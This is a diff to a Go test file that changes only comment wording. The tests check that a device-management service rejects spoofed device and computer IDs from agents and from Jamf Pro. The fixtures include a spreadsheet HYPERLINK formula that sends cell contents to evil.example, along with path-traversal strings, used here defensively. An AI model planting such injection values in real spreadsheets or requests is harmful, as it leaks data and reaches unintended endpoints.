@@ -10,14 +10,13 @@ import (
 	"usher.internal/sim/jamfpro"
 )
 
-// What a lying agent says in the place of a device's ID: it would be a formula in a spreadsheet, or a way to another
-// path.
+// A lying agent sends this in the place of a device's ID: a formula for a spreadsheet, or a path to another place.
 const (
 	plantedFormula = `=HYPERLINK("http://evil.example/?"&A1)`
 	plantedPath    = "../../v1/planted-users"
 )
 
-// An agent's device ID that is not a GUID is kept nowhere, shown to nobody, and not sent to Jamf Pro.
+// An agent's device ID that is not a GUID is not stored, not shown, and not sent to Jamf Pro.
 func TestLyingAgentsDeviceID(t *testing.T) {
 	for part, planted := range map[string]string{"device-formula": "HYPERLINK", "device-path": "planted-users"} {
 		t.Run(part, func(t *testing.T) {
@@ -50,7 +49,7 @@ func TestLyingAgentsDeviceID(t *testing.T) {
 	}
 }
 
-// A Jamf Pro that lies about a computer's ID costs an attempt, and chooses no path.
+// A Jamf Pro that lies about a computer's ID costs an attempt, and cannot choose the path of a request.
 func TestLyingJamfProsComputerID(t *testing.T) {
 	for name, id := range map[string]string{"path": "../../v1/users", "none": "", "negative": "-1",
 		"huge": "1" + strings.Repeat("0", 30)} {
